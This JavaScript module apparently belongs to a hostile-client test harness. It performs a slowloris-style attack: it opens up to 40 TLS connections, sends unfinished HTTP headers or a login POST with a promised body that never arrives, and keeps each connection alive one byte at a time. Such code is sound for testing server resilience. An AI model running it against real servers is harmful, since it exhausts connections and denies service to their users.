// Requests that are never finished: headers that drip, and bodies that are promised.

/** @type {import("../hostile.mjs").Kind} */
export async function run({ wires, target, random, sleep, over }) {
  const sockets = [];
  for (let count = 0; count < 40 && !over(); count += 1) {
    const socket = wires().tls(target.https);
    const begin = random.pick([
      `GET /config.js HTTP/1.1\r\nHost: ${target.host}\r\nX-Long: `,
      `POST /access/login HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\npassword=`,
      "GET ",
    ]);
    socket.once("secureConnect", () => socket.write(begin));
    sockets.push(socket);
    await sleep(50);
  }
  while (!over()) {
    for (const socket of sockets) if (socket.writable) socket.write("x");
    await sleep(1000);
  }
}
